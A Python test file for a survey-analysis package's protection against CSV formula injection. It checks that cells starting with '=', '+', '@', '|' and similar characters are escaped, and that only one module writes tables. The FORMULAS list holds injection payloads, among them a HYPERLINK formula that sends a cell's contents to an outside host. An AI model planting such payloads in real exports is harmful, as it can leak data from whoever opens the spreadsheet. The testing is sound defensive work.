"""Tables that people open: nothing that someone typed into a survey is computed, and one module writes them all."""

from __future__ import annotations

import ast
import csv
import io

import nbformat
import pytest
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st

from cyclebook import spreadsheet
from cyclebook.batch.worker import attached
from cyclebook.cli import main
from cyclebook.parameters import load
from cyclebook.privacy.door import FILE
from cyclebook.report import ReportError
from cyclebook.store import prepare
from tests.small_district import write
from tests.test_structure import PACKAGE

#: What a spreadsheet would compute, or take apart: each way in which a cell may begin (OWASP, "CSV Injection").
FORMULAS = (
    '=HYPERLINK("http://example.org/?"&A1)', "=1+2", "+1+2", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\n=1", " =1", "|cmd", "%0A=1", "＝1", "\ufeff=1", "\u200b=1",
    " \u2060\t=1", "\x00=1", '=1"&A1',
)  # fmt: skip


def cells_of(content: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content, newline="")))


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_text_and_can_be_read_again(text):
    content = spreadsheet.to_csv([["a", text], [text, 5]])
    assert cells_of(content) == [["a", f"'{text}"], [f"'{text}", "5"]]
    assert spreadsheet.is_safe(content) and not spreadsheet.is_safe(content.replace("'", ""))
    assert spreadsheet.plain(f"'{text}") == text


@given(st.text())
def test_no_text_is_computed_and_every_text_comes_back(text):
    shown = spreadsheet.safe(text)
    assert shown in (text, f"'{text}") and spreadsheet.safe(shown) == shown
    if not text.startswith("'"):
        assert spreadsheet.plain(shown) == text


def test_what_people_call_a_number_or_a_name_is_not_touched():
    for text in ("-5", "-1,024.5", "3.9", "O'Brien", "'tis", "", "a=b", "5 %"):
        assert spreadsheet.safe(text) == text and spreadsheet.plain(text) == text


def writes(tree: ast.AST) -> list[str]:
    """What in a module writes tables: names of csv's writers, and of methods and classes that write CSV or a workbook."""
    found = []
    for node in ast.walk(tree):
        name = node.attr if isinstance(node, ast.Attribute) else node.name if isinstance(node, ast.alias) else ""
        owner = node.value.id if isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name) else ""
        if name in ("to_excel", "ExcelWriter", "DictWriter", "openpyxl", "xlsxwriter", "write_csv") or (owner, name) == ("csv", "writer"):
            found.append(name)
        if name in ("to_csv", "savetxt", "tofile") and owner != "spreadsheet":
            found.append(name)
    return found


def test_one_module_writes_all_tables():
    files = [file for file in PACKAGE.rglob("*.py") if file.name != "spreadsheet.py"]
    trees = {file.relative_to(PACKAGE).as_posix(): ast.parse(file.read_text(encoding="utf-8")) for file in files}
    ours = {name for name, tree in trees.items() if any(isinstance(node, ast.ImportFrom) and node.module == "cyclebook.spreadsheet" for node in ast.walk(tree))}
    assert len(trees) > 100 and "init/write.py" in ours
    assert {name: found for name, tree in trees.items() if (found := writes(tree)) and not (found == ["to_csv"] and name in ours)} == {}


@pytest.mark.parametrize("line", ["csv.writer(f)", "table.to_csv(f)", "from csv import DictWriter", "frame.to_excel(p)", "import openpyxl", "pd.ExcelWriter(p)"])
def test_another_writer_would_be_seen(line):
    assert writes(ast.parse(line)) != []


def test_a_page_cannot_attach_what_would_be_computed():
    def of(text):
        output = nbformat.v4.new_output("display_data", data={"text/html": "x", FILE: {"name": "05_x.csv", "text": text}})
        return nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("x", outputs=[output])])

    assert attached(of("School,Answers\r\nAlder,-5\r\n"), "_district", "05_x")
    with pytest.raises(ReportError, match="a spreadsheet would compute") as caught:
        attached(of("School,Answers\r\n=HYPERLINK(),5\r\n"), "_district", "05_x")
    assert "HYPERLINK" not in str(caught.value)


def test_rows_set_aside_are_safe_whatever_was_typed(tmp_path):
    rows = "".join('"{}",{},Agree,Agree\n'.format(text.replace('"', '""'), place) for place, text in enumerate(FORMULAS) if "\x00" not in text)
    prepare(write(tmp_path, {"data/raw/answers.csv": "School,Token,Q1,Q2\n" + rows}), {"01_collect_climate": "climate"})
    content = (tmp_path / "data" / "set_aside" / "answers.csv").read_bytes().decode("utf-8-sig")
    assert len(cells_of(content)) > 12 and spreadsheet.is_safe(content)


def test_a_school_named_like_a_formula_is_safe_in_the_proposed_list_and_still_the_same_school(tmp_path):
    rows = [f"{school},{answer}" for school in ("=Alder(1)", "+Birch", "@Cedar") for answer in ("Agree", "Disagree", "Neither agree nor disagree") * 3]
    (tmp_path / "a.csv").write_text("Which school do you work at?,My colleagues help me.\n" + "\n".join(rows) + "\n", encoding="utf-8")
    done = CliRunner().invoke(main, ["init", str(tmp_path / "new"), "--from", str(tmp_path / "a.csv"), "--yes"])
    assert done.exit_code == 0, done.output
    content = (tmp_path / "new" / "parameters" / "schools.csv").read_text(encoding="utf-8")
    assert spreadsheet.is_safe(content) and "'=Alder(1)" in content
    assert {"=Alder(1)", "+Birch", "@Cedar"} <= {school.name for school in load(tmp_path / "new").schools.values()}
